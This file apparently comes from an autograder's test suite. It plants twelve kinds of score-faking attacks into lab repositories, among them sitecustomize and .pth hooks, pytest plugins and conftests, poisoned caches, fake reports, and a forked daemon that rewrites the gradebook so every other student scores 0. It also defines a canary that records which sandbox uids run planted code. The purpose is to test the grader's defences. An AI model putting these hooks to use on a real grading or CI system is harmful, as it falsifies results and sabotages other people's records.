"""Whole-checkout attacks: what a student can commit beside ``labNN.py`` to score without the work.

The single-file attacks of this folder (``labNN_<attack>.py``) are lab modules. These are whole
repositories: each one is a copy of the lab's export whose ``labNN.py`` is the untouched starter
(or a starter that leans on a file beside it), with files added where some process of the grader
might import or run them. Their payload, wherever it runs, gives its student full marks: it
rewrites every result the grader writes (``GradeResult.to_dict``) and, as root, any report it
can find. An attack has failed when its student scores 0 and the regrade lists the planted files
(integrity ``added`` or ``modified``).

Each attack is a function that plants its files into ``repo`` (a fresh copy of the export);
``CHECKOUT_ATTACKS`` lists them with the file names the regrade must report. The canary
(:func:`plant_canary`) is the same set of places with a recorder instead of a payload: it writes
the uid (and pid) of whatever runs it into a folder the test reads (``records``).
"""

from __future__ import annotations

import os
import socket
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
CHIP = ROOT / "shared" / "msda_labs" / "chips"

# Wherever this runs, every result the grader writes afterwards says full marks; as root it also
# rewrites the reports of a regrade it can see (its --json output and the gradebook).
PAYLOAD = textwrap.dedent('''
    def _full_marks():
        try:
            from msda_labs.grading.judge import results
        except Exception:
            return
        original = results.GradeResult.to_dict

        def to_dict(self):
            data = original(self)
            for ex in data.get("exercises", []):
                for test in ex.get("tests", []):
                    test.update(status="passed", score=test["max_score"], message="")
                ex["score"] = ex["max_score"]
            data["score"] = data.get("max_score", 0)
            return data

        results.GradeResult.to_dict = to_dict


    _full_marks()
''')

# Optional imports of torch, pytest and jsonschema that are not installed here: the grading
# process tries each of them (found by tracing a grading run's failed imports).
OPTIONAL_IMPORTS = ("dill", "tqdm", "opt_einsum", "pynvml", "jsonpointer", "webcolors", "pydot")


def _write(path: Path, text: str, mode: int | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    if mode is not None:
        path.chmod(mode)


def _dist_info(repo: Path, name: str, group: str, target: str) -> None:
    info = repo / f"{name}-1.0.dist-info"
    _write(info / "METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    _write(info / "entry_points.txt", f"[{group}]\n{name} = {target}\n")
    _write(info / "RECORD", "")


def optional_imports(repo: Path, lab: str) -> list[str]:
    """Root modules named like optional imports of torch, pytest and jsonschema."""
    for name in OPTIONAL_IMPORTS:
        _write(repo / f"{name}.py", PAYLOAD)
    return [f"{name}.py" for name in OPTIONAL_IMPORTS]


def pytest_entry_point(repo: Path, lab: str) -> list[str]:
    """A metadata folder declaring a pytest plugin (pytest11), and the plugin beside it."""
    _dist_info(repo, "grade_helper", "pytest11", "grade_helper")
    _write(repo / "grade_helper.py", PAYLOAD)
    return ["grade_helper-1.0.dist-info/entry_points.txt", "grade_helper.py"]


def torch_backend_entry_point(repo: Path, lab: str) -> list[str]:
    """A metadata folder declaring a torch device backend (torch.backends), loaded at import."""
    _dist_info(repo, "accel_backend", "torch.backends", "accel_backend:_autoload")
    _write(repo / "accel_backend.py", PAYLOAD + "\n\ndef _autoload():\n    _full_marks()\n")
    return ["accel_backend-1.0.dist-info/entry_points.txt", "accel_backend.py"]


def site_hooks(repo: Path, lab: str) -> list[str]:
    """A .pth file, sitecustomize and usercustomize at the root and in a fake site folder."""
    _write(repo / "zz_grade.pth", "import sitecustomize\n")
    _write(repo / "sitecustomize.py", PAYLOAD)
    _write(repo / "usercustomize.py", PAYLOAD)
    _write(repo / "lib" / "site-packages" / "zz_grade.pth", "import usercustomize\n")
    return ["zz_grade.pth", "sitecustomize.py", "usercustomize.py"]


def conftests(repo: Path, lab: str) -> list[str]:
    """conftest.py at the root, in tests/ and deeper in the tree, each a pytest plugin."""
    hooks = PAYLOAD + textwrap.dedent('''

        def pytest_configure(config):
            _full_marks()
    ''')
    for place in ("conftest.py", "tests/conftest.py", "src/deep/er/conftest.py"):
        _write(repo / place, hooks)
    return ["conftest.py", "tests/conftest.py", "src/deep/er/conftest.py"]


def pytest_configs(repo: Path, lab: str) -> list[str]:
    """Every pytest configuration file, each adding a plugin of the student's to the command."""
    _write(repo / "grade_plugin.py", PAYLOAD)
    _write(repo / "pytest.ini", "[pytest]\naddopts = -p grade_plugin\n")
    _write(repo / "pyproject.toml", '[tool.pytest.ini_options]\naddopts = "-p grade_plugin"\n')
    _write(repo / "setup.cfg", "[tool:pytest]\naddopts = -p grade_plugin\n")
    _write(repo / "tox.ini", "[pytest]\naddopts = -p grade_plugin\n")
    return ["grade_plugin.py", "pytest.ini", "pyproject.toml", "setup.cfg", "tox.ini"]


def linked_chip(repo: Path, lab: str) -> list[str]:
    """The module imports its answers from files beside it: a symbolic link and a hard link to
    the kit's own chip (a checkout on the same file system as the kit)."""
    chip = CHIP / f"{lab}.py"
    (repo / "answers_soft.py").symlink_to(chip)
    os.link(chip, repo / "answers_hard.py")
    starter = (repo / f"{lab}.py").read_text()
    _write(repo / f"{lab}.py", starter + textwrap.dedent('''

        try:
            from answers_hard import *  # noqa: F401,F403
        except ImportError:
            from answers_soft import *  # noqa: F401,F403
    '''))
    return ["answers_hard.py", "answers_soft.py"]


def odd_entries(repo: Path, lab: str) -> list[str]:
    """Names that look like options or break lines, a file without permissions, a FIFO (a copy
    that reads it waits for ever), a socket and a set-user-ID file."""
    names = ["--json=grade.json", "-p grade_plugin", "line\nbreak.py", f" {lab}.py"]
    for name in names:
        _write(repo / name, PAYLOAD)
    _write(repo / "secret.py", PAYLOAD, mode=0)
    _write(repo / "setuid.py", PAYLOAD, mode=0o4755)
    os.mkfifo(repo / "notes.fifo")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(repo / "grader.sock"))
    sock.close()
    return ["--json=grade.json", "-p grade_plugin", "notes.fifo", "grader.sock", "secret.py"]


def planted_caches(repo: Path, lab: str) -> list[str]:
    """Caches a later run might trust: Triton's (HOME and TRITON_CACHE_DIR layouts), bytecode of
    the chip under the module's own name, and a torch hub folder."""
    chip = (CHIP / f"{lab}.py").read_text()
    _write(repo / ".triton" / "cache" / "planted" / f"{lab}.json", '{"planted": true}\n')
    _write(repo / "triton-cache" / "planted" / "kernel.json", '{"planted": true}\n')
    import py_compile

    pyc = repo / "__pycache__" / f"{lab}.cpython-311.pyc"
    pyc.parent.mkdir(exist_ok=True)
    source = repo / "chip_source.py"
    source.write_text(chip)
    py_compile.compile(str(source), cfile=str(pyc))
    source.unlink()
    _write(repo / ".cache" / "torch" / "hub" / "planted.py", PAYLOAD)
    return [".triton/cache/planted/" + f"{lab}.json", "triton-cache/planted/kernel.json"]


def fake_reports(repo: Path, lab: str) -> list[str]:
    """Reports with full marks where a platform might pick one up, and a manifest that agrees
    with tests edited to always pass."""
    full = '{"score": 100, "max_score": 100, "exercises": []}\n'
    _write(repo / "grade.json", full)
    _write(repo / "results" / "results.json", '{"score": 100, "tests": []}\n')
    _write(repo / "result.json", full)
    _write(repo / "gradebook.csv", "student,lab,score,max\nme,lab,100,100\n")
    for test in (repo / "tests").glob("test_*.py"):
        test.write_text("def test_everything():\n    assert True\n")
    from msda_labs.grading.judge import integrity

    integrity.write_manifest(repo)
    return ["results/results.json", "result.json", "gradebook.csv"]


def edited_workflow(repo: Path, lab: str) -> list[str]:
    """The workflow prints full marks instead of grading; noxfile and requirements edited too."""
    for workflow in (repo / ".github" / "workflows").glob("*.yml"):
        workflow.write_text("on: push\njobs:\n  grade:\n    runs-on: ubuntu-latest\n    steps:\n"
                            "      - run: echo 'Points 100/100'\n")
    _write(repo / "noxfile.py", PAYLOAD)
    _write(repo / "requirements.txt", "grade-helper==1.0\n")
    return ["noxfile.py", "requirements.txt"]


LEFT_BEHIND = textwrap.dedent('''

    # A daemon that outlives the test: it waits for the regrade to write its gradebook and
    # rewrites every row: full marks for its student, 0 for everyone else.
    import os as _os
    import time as _time


    def _rewrite(path):
        import csv

        with open(path) as fh:
            rows = list(csv.reader(fh))
        for row in rows[1:]:
            if len(row) > 3:
                row[2] = row[3] if row[0] == ME else "0"
        with open(path, "w", newline="") as fh:
            csv.writer(fh).writerows(rows)


    def _watch():
        end = _time.time() + 600
        while _time.time() < end:
            for pid in filter(str.isdigit, _os.listdir("/proc")):
                try:
                    args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
                    cwd = _os.readlink(f"/proc/{pid}/cwd")
                except OSError:
                    continue
                if "--gradebook" in args:
                    path = _os.path.join(cwd, args[args.index("--gradebook") + 1])
                    try:
                        _rewrite(path)
                    except (OSError, ValueError, IndexError):
                        pass
            _time.sleep(0.01)


    ME = "left-behind"
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            try:
                _watch()
            finally:
                _os._exit(0)
        _os._exit(0)
''')


def left_behind(repo: Path, lab: str) -> list[str]:
    """The module starts a daemon in a new session that rewrites the gradebook (every other
    student 0), and a helper module beside it would restart it from every process."""
    starter = (repo / f"{lab}.py").read_text()
    _write(repo / f"{lab}.py", starter + LEFT_BEHIND)
    _write(repo / "keeper.py", LEFT_BEHIND)
    return ["keeper.py"]


@dataclass(frozen=True)
class CheckoutAttack:
    name: str
    plant: Callable[[Path, str], list[str]]

    @property
    def summary(self) -> str:
        return " ".join((self.plant.__doc__ or "").split())


CHECKOUT_ATTACKS = tuple(CheckoutAttack(name, fn) for name, fn in (
    ("optional-imports", optional_imports),
    ("pytest-entry-point", pytest_entry_point),
    ("torch-backend-entry-point", torch_backend_entry_point),
    ("site-hooks", site_hooks),
    ("conftests", conftests),
    ("pytest-configs", pytest_configs),
    ("linked-chip", linked_chip),
    ("odd-entries", odd_entries),
    ("planted-caches", planted_caches),
    ("fake-reports", fake_reports),
    ("edited-workflow", edited_workflow),
    ("left-behind", left_behind),
))


# -- the canary ---------------------------------------------------------------------------------
CANARY_UIDS = range(64000, 64128)  # the sandbox uids a grading here may take (64000 + slot)
GRANDCHILD_WAIT = 5  # seconds the canary's grandchild waits before it records that it lives on

RECORDER = textwrap.dedent('''
    _RECORDS = []


    def _record(place):
        import os
        import time

        uid = os.getuid()
        _RECORDS.append(f"{place}:{uid}")
        for folder in (f"{CANARY}/{uid}", f"{CANARY}/other"):
            try:
                name = f"{folder}/{place}-{os.getpid()}-{time.monotonic_ns()}"
                with open(name, "w") as fh:
                    fh.write(f"{place} {uid} {os.getpid()}\\n")
                return
            except OSError:
                continue
''')
CANARY_NAME = "msda-canary"  # the grandchild's process name (/proc/PID/comm), seen from outside


def plant_canary(repo: Path, lab: str, canary: Path, secret: Path | None = None) -> None:
    """Every place that could run code, each recording its uid: into ``canary`` (a folder with
    a sub-folder per sandbox uid, owned by it, and ``other/``; root can write anywhere, a child
    in a private world nowhere that lasts) and, for the module, in the message of the error its
    functions raise (``canary: import:UID ...``, read back from the result). The module records
    at import, registers an atexit hook and forks a grandchild named ``CANARY_NAME`` that lives
    on (and records again after ``GRANDCHILD_WAIT`` seconds if it was not killed); entry points
    (pytest11, torch.backends), modules named like optional imports, .pth, sitecustomize,
    usercustomize and conftest.py files record wherever they run. With ``secret`` (the seed
    file's path, as a student could read it from a command line), the module tries to read it
    and records ``read-the-seed`` if it could."""
    recorder = f"CANARY = {str(canary)!r}\nGRANDCHILD_WAIT = {GRANDCHILD_WAIT}\n" + RECORDER
    starter = (repo / f"{lab}.py").read_text()
    _write(repo / f"{lab}.py", starter + "\n\n" + recorder + textwrap.dedent('''

        import atexit as _atexit
        import ctypes as _ctypes
        import os as _os
        import time as _time

        _record("import")
        try:
            with open(SECRET) as _fh:
                _fh.read()
            _record("read-the-seed")
        except (OSError, TypeError):
            pass
        _atexit.register(_record, "atexit")
        if _os.fork() == 0:
            _ctypes.CDLL(None).prctl(15, CANARY_NAME.encode(), 0, 0, 0)  # PR_SET_NAME
            _record("grandchild")
            _time.sleep(GRANDCHILD_WAIT)
            _record("grandchild-still-alive")
            _time.sleep(600)
            _os._exit(0)


        def bilinear_sample(*args, **kwargs):
            raise RuntimeError("canary: " + " ".join(_RECORDS))


        def msda_naive_student(*args, **kwargs):
            raise RuntimeError("canary: " + " ".join(_RECORDS))
    ''').replace("CANARY_NAME", repr(CANARY_NAME)).replace("SECRET", repr(secret and str(secret))))
    places = {
        "optional-import": [f"{name}.py" for name in OPTIONAL_IMPORTS],
        "entry-point": ["canary_plugin.py"],
        "sitecustomize": ["sitecustomize.py", "usercustomize.py"],
        "conftest": ["conftest.py", "sub/conftest.py", "tests/conftest.py"],
    }
    for place, files in places.items():
        for name in files:
            _write(repo / name, recorder + f"\n_record({place!r})\n"
                   + "\n\ndef _autoload():\n    pass\n")
    _dist_info(repo, "canary_plugin", "pytest11", "canary_plugin")
    _dist_info(repo, "canary_backend", "torch.backends", "canary_plugin:_autoload")
    _write(repo / "canary.pth", "import sitecustomize\n")


def canary_messages(result: dict | None) -> list[tuple[str, int]]:
    """(place, uid) of what the canary's module reported through its errors."""
    found = set()
    for ex in (result or {}).get("exercises", []):
        for test in ex.get("tests", []):
            text = test.get("message") or ""
            if "canary: " in text:
                for item in text.split("canary: ", 1)[1].split():
                    place, _, uid = item.partition(":")
                    if uid.isdigit():
                        found.add((place, int(uid)))
    return sorted(found)


def canaries_alive() -> list[int]:
    """Pids of canary grandchildren still running (their name, seen from this namespace)."""
    alive = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/comm") as fh:
                if fh.read().strip() == CANARY_NAME:
                    alive.append(int(pid))
        except OSError:
            continue
    return alive


def make_canary_folder(folder: Path) -> Path:
    """A folder the canary can write from any sandbox uid without it being world-writable (a
    private world would hide a world-writable folder): one sub-folder per uid, owned by it."""
    folder.mkdir(mode=0o711)
    for uid in CANARY_UIDS:
        sub = folder / str(uid)
        sub.mkdir(mode=0o700)
        os.chown(sub, uid, uid)
    (folder / "other").mkdir()
    os.chmod(folder / "other", 0o733)  # a uid outside the range (a private world may hide it)
    return folder


def records(folder: Path) -> list[tuple[str, int, int]]:
    """(place, uid, pid) of every record the canary wrote."""
    found = []
    for path in folder.rglob("*"):
        if path.is_file():
            place, uid, pid = path.read_text().split()
            found.append((place, int(uid), int(pid)))
    return found
